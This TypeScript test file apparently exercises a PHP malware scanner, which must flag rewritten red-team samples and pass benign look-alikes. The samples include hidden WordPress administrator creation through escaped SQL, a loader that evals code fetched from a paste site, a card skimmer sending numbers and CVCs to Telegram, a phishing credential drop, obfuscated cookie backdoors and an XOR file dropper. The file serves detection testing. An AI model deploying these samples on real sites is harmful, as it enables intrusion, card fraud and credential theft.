import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createScanner } from './scanner.js';
import { normalizeStrings } from './php-strings.js';

// Session 46: the misses of its fair samples (bench/redteam/README-corpus-s46.md), each written again by us, with the
// look-alikes that must not be malicious.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;

/** Every other letter of a text written as a hex escape, as PHP obfuscators of the kind do in double-quoted strings. */
const esc = (t: string) => [...t].map((c, i) => (/[A-Za-z_ ]/.test(c) && i % 2 === 0 ? `\\x${c.charCodeAt(0).toString(16)}` : c)).join('');
/** A doorway's top: a remote script handed the page's phrase, for visitors who are not crawlers (H60). */
const DOORWAY_GATE = `  include 'bot_or_not.php';
  if (empty($is_bot)) {
    echo '<script type="text/javascript">var kw = "cheap pills online fast";</script>
    <script type="text/javascript" src="http://example.net/core/go.min.js"></script>';
  }
`;
const LARAVEL_FRONT = `<?php

use Illuminate\\Http\\Request;

define('LARAVEL_START', microtime(true));

if (file_exists($maintenance = __DIR__.'/../storage/framework/maintenance.php')) {
    require $maintenance;
}

require __DIR__.'/../vendor/autoload.php';

(require_once __DIR__.'/../bootstrap/app.php')
    ->handleRequest(Request::capture());
`;
const GOOGLE_CHECKS = `<?php
function fromGoogleName() {
    $names = ['Googlebot', 'Googlebot-Image', 'AdsBot-Google', 'Storebot-Google'];
    foreach ($names as $n) if (stripos($_SERVER['HTTP_USER_AGENT'] ?? '', $n) !== false) return true;
    return false;
}
function fromGoogleHost() {
    $h = @gethostbyaddr($_SERVER['REMOTE_ADDR']);
    return $h && (str_ends_with($h, '.googlebot.com') || str_ends_with($h, '.google.com'));
}
function fromGoogleRange() {
    foreach (['66.249.64.0/19', '64.233.160.0/19'] as $r) {
        [$net, $bits] = explode('/', $r);
        $m = -1 << (32 - $bits);
        if ((ip2long($_SERVER['REMOTE_ADDR']) & $m) === (ip2long($net) & $m)) return true;
    }
    return false;
}
`;

const PAGES: [string, string, string][] = [
  [
    'a script loading WordPress that makes an administrator of its own by SQL whose words are hex escapes, on a query parameter (H59)',
    '/srv/www/wp-includes/class.wp.php',
    `<?php error_reporting(0); require $_SERVER["${esc('DOCUMENT_ROOT')}"] . "/${esc('wp-load')}.php";
$p = $wpdb->get_blog_prefix();
$cap = "${esc('a:1:{s:13:')}\\"administrator\\";b:1;}";
if (isset($_GET["${esc('mk')}"])) {
  $wpdb->query("${esc('INSERT INTO')} $wpdb->users (\`ID\`, \`user_login\`, \`user_pass\`) ${esc('VALUES')} (424242, 'sys', '\\$P\\$Bq0abcdefghij')");
  $wpdb->query("${esc('INSERT INTO')} $wpdb->usermeta (\`user_id\`, \`meta_key\`, \`meta_value\`) ${esc('VALUES')} (424242, '{$p}capabilities', '{$cap}')");
}
if (isset($_GET["rm"])) { $wpdb->query("DELETE FROM $wpdb->users WHERE ID = 424242"); }
`,
  ],
  [
    'the SQL with its letters as octal escapes (red team S46R-06)',
    '/srv/www/wp-includes/class-wp-x.php',
    `<?php require $_SERVER["DOCUMENT_ROOT"] . "/wp-load.php";
if (isset($_GET["a"])) {
  $wpdb->query("\\111\\116\\123\\105\\122\\124 \\111\\116\\124\\117 $wpdb->users (user_login, user_pass) VALUES ('x', 'y')");
  $wpdb->query("INSERT INTO $wpdb->usermeta (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), '{$wpdb->prefix}capabilities', 'a:1:{s:13:\\"administrator\\";b:1;}')");
}
`,
  ],
  [
    'the table as WordPress writes it, {$wpdb->users}, and MySQL\'s INSERT .. SET (red team S46R-03, -04)',
    '/srv/www/wp-content/uploads/x.php',
    `<?php
require dirname(__FILE__) . '/../../wp-load.php';
if (!empty($_POST['go'])) {
  $wpdb->query("INSERT INTO {$wpdb->users} SET user_login = 'svc', user_pass = '" . md5('x') . "'");
  $wpdb->query("INSERT INTO {$wpdb->usermeta} SET user_id = {$wpdb->insert_id}, meta_key = '{$wpdb->prefix}capabilities', meta_value = 'a:1:{s:13:\\"administrator\\";b:1;}'");
}
`,
  ],
  [
    'the same written plainly, the table named $wpdb->users (H59)',
    '/srv/www/wp-content/uploads/u.php',
    `<?php
require $_SERVER['DOCUMENT_ROOT'] . '/wp-load.php';
if (!empty($_GET['add'])) {
  $wpdb->query("INSERT INTO {$wpdb->users} (user_login, user_pass) VALUES ('backup', '" . md5('x') . "')");
  $id = $wpdb->insert_id;
  $wpdb->query("INSERT INTO {$wpdb->usermeta} (user_id, meta_key, meta_value) VALUES ($id, '{$wpdb->prefix}capabilities', 'a:1:{s:13:\\"administrator\\";b:1;}')");
}
`,
  ],
  [
    'a doorway page: a remote script handed the page\'s phrase for visitors who are not crawlers, spam text for crawlers (H60)',
    '/srv/www/core/cheap-pills-online.12345_678.php',
    `<?php
${DOORWAY_GATE}?>
<html><head><title>Cheap pills online fast *** best prices</title></head>
<body><h1>Cheap pills online fast</h1><p>cheap pills online, pills fast, online pills ...</p></body></html>
`,
  ],
  [
    'a loader behind a cookie login running text from a paste site\'s raw view with eval(\'?>\' . ..) (H62)',
    '/srv/www/jm.php',
    `<?php
function signed_in() { return isset($_COOKIE['sid']) && $_COOKIE['sid'] === 'k9'; }
if (signed_in()) {
  function pull($u) {
    if (function_exists('curl_exec')) { $c = curl_init($u); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($c); curl_close($c); return $d; }
    return file_get_contents($u);
  }
  $code = pull('https://pastee.dev/r/Ab12Cd34');
  eval('?>' . $code);
} elseif (isset($_POST['pw']) && md5($_POST['pw']) === '0cc175b9c0f1b6a831c399e269772661') {
  setcookie('sid', 'k9', time() + 3600, '/');
}
?><form method="post"><input type="password" name="pw"></form>
`,
  ],
  [
    'a card drop: the card\'s number and security code posted, sent to a Telegram bot, the visitor sent on (H65)',
    '/srv/www/pay/capture.php',
    `<?php
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
  $card = $_POST['card_number']; $exp = $_POST['card_exp']; $cvc = $_POST['card_cvc'];
  $text = "New card\nNumber: $card\nExp: $exp\nCVC: $cvc";
  $bot = 'XXXX'; $chat = 'YYYY';
  file_get_contents("https://api.telegram.org/bot$bot/sendMessage?chat_id=$chat&text=" . urlencode($text));
  header('Location: sms.php');
  exit;
}
`,
  ],
  [
    'a phishing drop whose fields are named otherwise, keeping the password beside its name in a text file and answering JSON (H65)',
    '/srv/www/login/post.php',
    `<?php
session_start();
function keep($e, $password) {
  $line = date('c') . ' IP: ' . $_SERVER['REMOTE_ADDR'] . ' | Email: ' . $e . ' | Password: ' . $password . PHP_EOL;
  file_put_contents('store.txt', $line, FILE_APPEND | LOCK_EX);
}
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
  $e = $_POST['u1'] ?? ''; $p = $_POST['u2'] ?? '';
  keep($e, $p);
  $_SESSION['n'] = ($_SESSION['n'] ?? 0) + 1;
  header('Content-Type: application/json');
  echo json_encode(['ok' => $_SESSION['n'] >= 2, 'msg' => 'Wrong password, try again']);
}
`,
  ],
  [
    'a loader of a cPanel-wide infection: an absolute path with escapes kept in a variable, included behind isset() and a comment (H64)',
    '/srv/www/assets/index.php',
    `<?php
/*9f2c1*/

$fp9 = "/home\\x32/acct/public_html/site/uploads/forms/.\\x6132f90\\x61.css"; if (isset($fp9)){ @include_once /* x */ ($fp9); }

/*9f2c1*/
`,
  ],
  [
    'a cookie backdoor naming $_COOKIE by picks out of range("~", " ") by sums, between comments of junk (H64)',
    '/srv/www/image/cache/index.php',
    `<?php /*-a1-*/$T/*-\u2592\u2660-*/ = /*-b-*/range/*-c-*/("~", " "); /*-d-*/$k = \${$T[13+18].$T[56+3].$T[25+22].$T[45+2].$T[36+15].$T[13+40].$T[0+57]};
if (count($k) == 4 && md5($k[0]) === '0cc175b9c0f1b6a831c399e269772661') { $f = $k[1] . $k[2]; $f($k[3]); }
`,
  ],
  [
    'a dropper walking the posted fields for a 16-character name, XOR-decoding with it and writing a .php into a random writable folder (H64)',
    '/srv/www/img/case/wdgt.php',
    `<?php
foreach ($_POST as $key => $val) { if (strlen($key) == 16) {
  $val = str_split(rawurldecode(str_rot13($val)));
  $key = array_slice(str_split(str_repeat($key, (count($val) / 16) + 1)), 0, count($val));
  function mix($a, $i, $k) { $g = "0b8a1c2d-3e4f-5a6b-7c8d-9e0f1a2b3c4d"; return $a ^ $g[$i % strlen($g)] ^ $k; }
  $val = @unserialize(implode('', array_map('mix', array_values($val), array_keys($val), array_values($key))));
  if (is_array($val)) { $dirs = glob($_SERVER['DOCUMENT_ROOT'] . '/*', GLOB_ONLYDIR); $to = $dirs[array_rand($dirs)] . '/' . substr(md5(time()), 0, 8) . '.php'; @file_put_contents($to, reset($val)); echo $to; exit; }
} }
`,
  ],
  [
    'the first WP-VCD block: with a fixed password in the request, links written into the posts and doorway pages kept in a table (H63)',
    '/srv/www/wp-content/themes/t/functions.php',
    `<?php
if (isset($_REQUEST['action']) && isset($_REQUEST['password']) && ($_REQUEST['password'] == '0123456789abcdef0123456789abcdef')) {
  switch ($_REQUEST['action']) {
    case 'set_links':
      $row = $wpdb->get_row('SELECT post_content FROM ' . $wpdb->prefix . 'posts WHERE ID = ' . intval($_REQUEST['id']));
      $c = preg_replace('!<div id="wp_cd_code">(.*?)</div>!s', '', $row->post_content) . '<div id="wp_cd_code">' . stripcslashes($_REQUEST['data']) . '</div>';
      $wpdb->query('UPDATE \`' . $wpdb->prefix . 'posts\` SET \`post_content\` = "' . esc_sql($c) . '" WHERE ID = ' . intval($_REQUEST['id']));
      break;
    default: print 'ERROR_WP_ACTION WP_URL_CD';
  }
  die('');
}
function theme_setup() { add_theme_support('title-tag'); }
`,
  ],
  [
    "an uploader dressed as an application's page, its own password setting the session it then asks for (not the application's login)",
    '/srv/www/admin/up.php',
    `<?php
session_start();
include 'config.php';
if (isset($_POST['k']) && md5($_POST['k']) === '0cc175b9c0f1b6a831c399e269772661') $_SESSION['admin'] = 1;
if (empty($_SESSION['admin'])) { header('Location: login.php'); exit; }
if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); echo 'ok'; }
`,
  ],
  [
    "a bulk mailer's core: links behind an anonymous redirect, its own server looked up in spam blocklists, PHPMailer sending (H65)",
    '/srv/www/mailer/includes/core.php',
    `<?php
require_once './includes/PHPMailer.php';
function wrap_link($u, $redir) { return $redir ? 'https://href.li/?' . $u : $u; }
function listed($ip) {
  $zones = ['zen.spamhaus.org', 'b.barracudacentral.org', 'bl.spamcop.net', 'dnsbl.sorbs.net', 'psbl.surriel.com'];
  $rev = implode('.', array_reverse(explode('.', $ip)));
  $hits = [];
  foreach ($zones as $z) if (checkdnsrr($rev . '.' . $z . '.', 'A')) $hits[] = $z;
  return $hits;
}
function send_one($mail, $to, $letter, $link) {
  $mail->clearAddresses(); $mail->addAddress($to);
  $mail->Body = str_replace('[-link-]', wrap_link($link, true), $letter);
  return $mail->Send();
}
`,
  ],
  [
    'a fake core class keyed by the cookies holding their own type and size, calling functions their elements name (H66)',
    '/srv/www/wp-includes/class-wp-info.php',
    `<?php
class _Wp_Info {
  const SEED = "\\x01\\x02\\x03\\x04\\x05\\x14_COOKIE";
  public function __construct() { $this->run(self::SEED); }
  private function run($d) {
    $p = $GLOBALS[substr($d, 6)];
    if (count($p) !== ord($d[5]) || !in_array(gettype($p) . count($p), $p)) return '';
    $f = array();
    for ($i = 0; $i < 5; $i++) $f[$i] = $p[ord($d[$i])];
    $f[1] .= $f[2];
    $g = $f[1]($f[3]);
    return $g($f[0], $f[4]);
  }
}
new _Wp_Info;
`,
  ],
  [
    'wp-blog-header.php given a block that requires files named .pdf (H66)',
    '/srv/www/wp-blog-header.php',
    `<?php
if (file_exists(dirname(__FILE__) . '/notes.pdf')) {
  require_once 'notes.pdf';
  @require_once 'extra.pdf';
}
?>
<?php
if ( ! isset( $wp_did_header ) ) { $wp_did_header = true; require_once __DIR__ . '/wp-load.php'; wp(); require_once ABSPATH . WPINC . '/template-loader.php'; }
`,
  ],
  [
    'the escaped path included behind an arithmetic condition, newlines after (H66)',
    '/srv/www/app/Exceptions/index.php',
    `<?php
/*a1b2c*/

$q7 = "/home/u/public_html/node_modules/es\\x63ape/.8\\x63\\x6316ed.css"; if (119 * 24){ @include_once /* k */ ($q7); }

/*a1b2c*/
` + '\n'.repeat(300),
  ],
  [
    'the POST-key dropper with its length kept in a variable, split into functions (H66)',
    '/srv/www/scss/qzxw.php',
    `<?php
function dec($v) { return str_split(rawurldecode(str_rot13($v))); }
function stretch($k, $v) { return array_slice(str_split(str_repeat($k, (count($v) / 16) + 1)), 0, count($v)); }
function mix($a, $i, $k) { $g = "1b2c3d4e-5f6a-7b8c-9d0e-1f2a3b4c5d6e"; return $a ^ $g[$i % strlen($g)] ^ $k; }
foreach ($_POST as $k => $v) { $n = strlen($k); if ($n == 16) {
  $v = dec($v); $k = stretch($k, $v);
  $v = @unserialize(implode('', array_map('mix', array_values($v), array_keys($v), array_values($k))));
  if (is_array($v)) { $to = __DIR__ . '/' . substr(md5(time()), 0, 8) . '.php'; @file_put_contents($to, reset($v)); echo $to; exit; }
} }
`,
  ],
];

/** What must be flagged at least (suspicious or malicious): evidence a benign site can also show, red team S46R. */
const FLAGGED: [string, string, string][] = [
  [
    'a Laravel front file with a block put first showing Google, checked three ways, a fixed local page (H62)',
    '/srv/www/public/index.php',
    `${GOOGLE_CHECKS}
if (fromGoogleName() || fromGoogleHost() || fromGoogleRange()) {
    header('Content-Type: text/html; charset=UTF-8');
    readfile(__DIR__ . '/terms.html');
    exit;
}
?>
${LARAVEL_FRONT}`,
  ],
  [
    'a doorway page of any name: a remote script handed a phrase for people only (H60; red team S46R-53, -54: a chat widget does the same)',
    '/srv/www/core/page.php',
    `<?php
${DOORWAY_GATE}`,
  ],
];

const LOOKALIKES: [string, string, string][] = [
  [
    'a double-quoted text that interpolates, with a hex escape of a letter',
    '/srv/www/hello.php',
    `<?php $name = $_GET['n'] ?? 'you'; echo "\\x48ello, " . htmlspecialchars($name) . "! \\x24 is a dollar, {$name}\\n";`,
  ],
  [
    'a migration tool writing users by SQL behind WordPress\'s own capability check',
    '/srv/www/wp-content/plugins/mover/import.php',
    `<?php
require dirname(__FILE__) . '/../../../wp-load.php';
if (!current_user_can('manage_options')) wp_die('no');
if (isset($_POST['row'])) {
  $wpdb->query($wpdb->prepare("INSERT INTO {$wpdb->users} (user_login, user_email) VALUES (%s, %s)", $_POST['row']['login'], $_POST['row']['email']));
  $wpdb->query($wpdb->prepare("INSERT INTO {$wpdb->usermeta} (user_id, meta_key, meta_value) VALUES (%d, %s, %s)", $wpdb->insert_id, $wpdb->prefix . 'capabilities', 'a:1:{s:13:"administrator";b:1;}'));
}
`,
  ],
  [
    'a page that loads its analytics for visitors who are not crawlers, handed an id',
    '/srv/www/footer.php',
    `<?php
$is_bot = preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'] ?? '');
if (!$is_bot) {
  echo '<script>var gaid = "G-ABC123XYZ";</script><script async src="https://www.googletagmanager.com/gtag/js?id=G-ABC123XYZ"></script>';
}
`,
  ],
  [
    'a page showing a paste site\'s raw text, escaped, not run',
    '/srv/www/notes.php',
    `<?php
$t = file_get_contents('https://pastee.dev/r/Ab12Cd34');
echo '<pre>' . htmlspecialchars((string) $t) . '</pre>';
`,
  ],
  [
    'a Laravel front file that lets Google\'s checked crawlers past its rate limit',
    '/srv/www/public/index.php',
    `${GOOGLE_CHECKS}
if (fromGoogleName() && (fromGoogleHost() || fromGoogleRange())) {
    define('SKIP_THROTTLE', true);
}
?>
${LARAVEL_FRONT}`,
  ],
  [
    'a prerender for Google of the page asked for, kept in snapshots by its path',
    '/srv/www/public/index.php',
    `${GOOGLE_CHECKS}
if (fromGoogleName() && fromGoogleHost()) {
    $snap = __DIR__ . '/snapshots/' . md5($_SERVER['REQUEST_URI']) . '.html';
    if (is_file($snap)) { readfile($snap); exit; }
}
?>
${LARAVEL_FRONT}`,
  ],
  [
    "an application's admin page behind its login saving an upload under the client's name (suspicious, not malicious: H64)",
    '/srv/www/admin/add_item.php',
    `<?php
session_start();
require_once 'config/config.php';
if (empty($_SESSION['admin'])) { header('Location: login.php'); exit; }
if (isset($_POST['submit'])) {
  $name = $_FILES['img']['name'];
  move_uploaded_file($_FILES['img']['tmp_name'], 'item_images/' . $name);
  $db->query("INSERT INTO items SET title='" . $db->real_escape_string($_POST['title']) . "', image='" . $db->real_escape_string($name) . "'");
}
?><form method="post" enctype="multipart/form-data"><input name="title"><input type="file" name="img"><button name="submit">Add</button></form>
`,
  ],
  [
    "a site's contact form sending its messages to the owner's Telegram",
    '/srv/www/contact.php',
    `<?php
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
  $text = "Message from " . $_POST['name'] . " (" . $_POST['phone'] . "):\n" . $_POST['message'] . "\nIP: " . $_SERVER['REMOTE_ADDR'];
  file_get_contents('https://api.telegram.org/bot' . getenv('TG_TOKEN') . '/sendMessage?chat_id=' . getenv('TG_CHAT') . '&text=' . urlencode($text));
  header('Location: thanks.html');
  exit;
}
`,
  ],
  [
    "a sign-up page that mails the user their new password and stores it hashed",
    '/srv/www/register.php',
    `<?php
require 'db.php';
if (isset($_POST['email'])) {
  $pw = bin2hex(random_bytes(6));
  $st = $pdo->prepare('INSERT INTO users (email, hash) VALUES (?, ?)');
  $st->execute([$_POST['email'], password_hash($pw, PASSWORD_DEFAULT)]);
  mail($_POST['email'], 'Welcome', "Your login: " . $_POST['email'] . "\nPassword: " . $pw . "\nFrom IP " . $_SERVER['REMOTE_ADDR']);
  header('Location: done.php');
}
`,
  ],
  [
    "a plugin showing pastes it imports and rendering its own template with eval('?>' ..) (red team S46R-48)",
    '/srv/www/wp-content/plugins/snippets/snippets.php',
    `<?php
function snip_import(string $url): string { $b = file_get_contents($url); return $b === false ? '' : $b; }
function snip_render(array $vars): string {
  static $tpl;
  $tpl ??= file_get_contents(__DIR__ . '/templates/box.phtml');
  extract($vars, EXTR_SKIP);
  ob_start();
  eval('?>' . $tpl);
  return ob_get_clean();
}
$example = 'https://paste.rs/Ab1';
add_shortcode('snippet', fn ($a) => snip_render(['code' => htmlspecialchars(snip_import($a['src'] ?? ''))]));
`,
  ],
  [
    'a log line holding the text $_GET[cmd] with an escaped underscore, which PHP does not read as a variable (red team S46R-59)',
    '/srv/www/tools/note.php',
    `<?php
$ip = $_SERVER['REMOTE_ADDR'];
$line = "blocked $ip asking for $\\x5fGET[cmd] in the query";
error_log($line);
system('logger ' . escapeshellarg("seen $\\x5fGET[cmd] from $ip"));
`,
  ],
  [
    'a page printing its terms kept as text, and a manual offered as a PDF download',
    '/srv/www/terms.php',
    `<?php
include 'header.php';
echo '<pre>'; readfile(__DIR__ . '/terms.txt'); echo '</pre>';
echo '<a href="manual.pdf">Manual (PDF)</a>';
if (isset($_GET['dl'])) { header('Content-Type: application/pdf'); readfile(__DIR__ . '/manual.pdf'); exit; }
include 'footer.php';
`,
  ],
  [
    'a library checking that an options array holds a value of its own making',
    '/srv/www/lib/opts.php',
    `<?php
function check(array $o) { return in_array('array' . count($o), ['array0', 'array1'], true); }
$handlers = [fn ($x) => trim($x), 'strtolower'];
echo $handlers[1]('ABC');
`,
  ],
  [
    'an admin login that alerts its operators\' Telegram of a failed attempt, naming the account and the address (red team S46B-01)',
    '/srv/www/admin/login.php',
    `<?php
session_start();
require_once 'lib/auth.php';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
  $user = trim($_POST['username'] ?? '');
  if (auth_check_ldap($user, $_POST['password'] ?? '')) { $_SESSION['uid'] = $user; header('Location: /admin/'); exit; }
  $msg = 'Failed admin login for "' . $user . '" from ' . $_SERVER['REMOTE_ADDR'];
  @file_get_contents('https://api.telegram.org/bot' . TG_TOKEN . '/sendMessage?chat_id=' . TG_CHAT . '&text=' . urlencode($msg));
  header('Location: /admin/login.php?error=1');
  exit;
}
`,
  ],
  [
    'a donation page passing the card to its gateway and mailing its office the amount (red team S46B-07)',
    '/srv/www/donate.php',
    `<?php
require 'gateway.php';
if ($_SERVER['REQUEST_METHOD'] === 'POST') {
  $res = gateway_charge(['amount' => (int) $_POST['amount'], 'card_number' => $_POST['card_number'], 'cvc' => $_POST['card_cvc'], 'customer_ip' => $_SERVER['REMOTE_ADDR']]);
  if ($res['ok']) { mail('office@example.org', 'New donation', 'Amount: ' . $_POST['amount'] . ' Ref: ' . $res['id']); header('Location: thanks.php'); exit; }
}
`,
  ],
  [
    'a debug log of a login request with the password masked, and the address (red team S46B-10)',
    '/srv/www/api/login.php',
    `<?php
function debug_log(array $d) { file_put_contents(__DIR__ . '/debug.log', date('c') . ' ' . $_SERVER['REMOTE_ADDR'] . ' ' . json_encode($d) . "\n", FILE_APPEND); }
$masked = str_repeat('*', strlen($_POST['password'] ?? ''));
debug_log(['user' => $_POST['user'] ?? '', 'password' => $masked]);
echo api_login($_POST['user'] ?? '', $_POST['password'] ?? '');
`,
  ],
  [
    'a blocklist monitor mailing its admin, its links to the lists behind an anonymous redirect (red team S46B-17)',
    '/srv/www/admin/bl.php',
    `<?php
$zones = ['zen.spamhaus.org', 'b.barracudacentral.org', 'bl.spamcop.net', 'dnsbl.sorbs.net'];
$rev = implode('.', array_reverse(explode('.', $_SERVER['SERVER_ADDR'])));
$out = '';
foreach ($zones as $z) $out .= $z . ': ' . (checkdnsrr("$rev.$z.", 'A') ? 'listed' : 'clean') . "\n";
$out .= 'Details: https://anonym.to/?https://www.spamhaus.org/lookup/';
mail('admin@example.com', 'blocklists', $out);
`,
  ],
  [
    'a malware cleaner listing the WP-VCD marker to take it out of posts',
    '/srv/www/wp-content/plugins/cleaner/clean.php',
    `<?php
if (!current_user_can('manage_options')) return;
foreach ($wpdb->get_results("SELECT ID, post_content FROM {$wpdb->posts}") as $p) {
  $clean = preg_replace('!<div id="wp_cd_code">(.*?)</div>!s', '', $p->post_content);
  if ($clean !== $p->post_content) $wpdb->query($wpdb->prepare("UPDATE {$wpdb->posts} SET post_content = %s WHERE ID = %d", $clean, $p->ID));
}
`,
  ],
  [
    "a mail server's status page checking its address against blocklists and sending a report",
    '/srv/www/admin/mailstatus.php',
    `<?php
$ip = $_SERVER['SERVER_ADDR'];
$zones = ['zen.spamhaus.org', 'b.barracudacentral.org', 'bl.spamcop.net', 'dnsbl.sorbs.net'];
$rev = implode('.', array_reverse(explode('.', $ip)));
$out = [];
foreach ($zones as $z) $out[$z] = checkdnsrr($rev . '.' . $z . '.', 'A') ? 'listed' : 'clean';
mail('postmaster@example.com', 'blocklist status', print_r($out, true));
echo '<a href="https://www.spamhaus.org/lookup/">Spamhaus lookup</a>';
`,
  ],
];

describe('scan: session 46 samples, the misses written again', () => {
  for (const [name, path, src] of PAGES) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.equal(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every page', () => assert.equal(PAGES.length, 18));
  it('ran every page to be flagged', () => assert.equal(FLAGGED.length, 2));
  for (const [name, path, src] of FLAGGED) {
    it(`flagged: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'clean', why(r));
    });
  }
  for (const [name, path, src] of LOOKALIKES) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, path);
      assert.notEqual(r.verdict, 'malicious', why(r));
    });
  }
  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 19));
});

// The escapes of a double-quoted literal that interpolates are read (php-strings.ts, unescapeInterpolating) only where that
// keeps what PHP reads: each literal here, and the same literal as the fold writes it, printed by PHP with the same
// variables set, must print the same (red team S46R-46's table, and its neighbours).
const php = spawnSync('php', ['-v'], { encoding: 'utf8' }).status === 0;
if (!php) console.log('# PHP CLI not found: the escape readings are not compared with PHP');
const VARS = `$x = 'X'; $abc = 'ABC'; $a = ['A', 'B']; $ab = 'AB'; $o = new class { public $p = 'P'; public function __toString(): string { return 'O'; } }; $arr = ['A' => 'KEY']; $_GET = ['cmd' => 'CMD'];`;
const LITERALS = [
  '"\\x49NSERT INTO $x (\\x60ID\\x60)"',
  '"$\\x61bc"',
  '"$a\\x62"',
  '"$a\\x5b0]"',
  '"$o\\x2d>p"',
  '"$o->\\x70"',
  '"{$arr[\'\\x41\']} \\x41"',
  '"$\\x5fGET[cmd]"',
  '"\\u{0000049} $x"',
  '"\\101\\x42\\u{43} $x \\x24x \\x7b$x}"',
  '"$a[1]\\x41 {$a[0]}\\x42"',
  '"$x\\x20\\x61 \\\\x41 $x"',
  '"${x}\\x41"',
  '"\\400\\x2 $x"',
];
describe('scan: session 46, escapes read in interpolating strings keep what PHP reads', { skip: !php && 'the PHP CLI is not installed' }, () => {
  const printed = (lit: string) => spawnSync('php', ['-d', 'display_errors=stderr', '-d', 'error_reporting=0', '-r', `${VARS} echo ${lit};`], { encoding: 'latin1', timeout: 10_000 });
  for (const lit of LITERALS) {
    it(lit, () => {
      const src = `<?php $v = ${lit};`;
      const read = normalizeStrings(src) ?? src;
      const folded = read.slice('<?php $v = '.length, -1);
      const a = printed(lit);
      const b = printed(folded);
      assert.equal(a.status, 0, a.stderr);
      assert.equal(b.stdout, a.stdout, `${lit} read as ${folded}`);
    });
  }
  it('compared every literal', () => assert.equal(LITERALS.length, 14));
  it('reads the SQL of the hidden-administrator backdoor', () => {
    assert.match(normalizeStrings('<?php $wpdb->query("\\x49NSE\\x52T INTO $wpdb->users (ID) VALUES (1)");') ?? '', /"INSERT INTO \$wpdb->users/);
  });
});
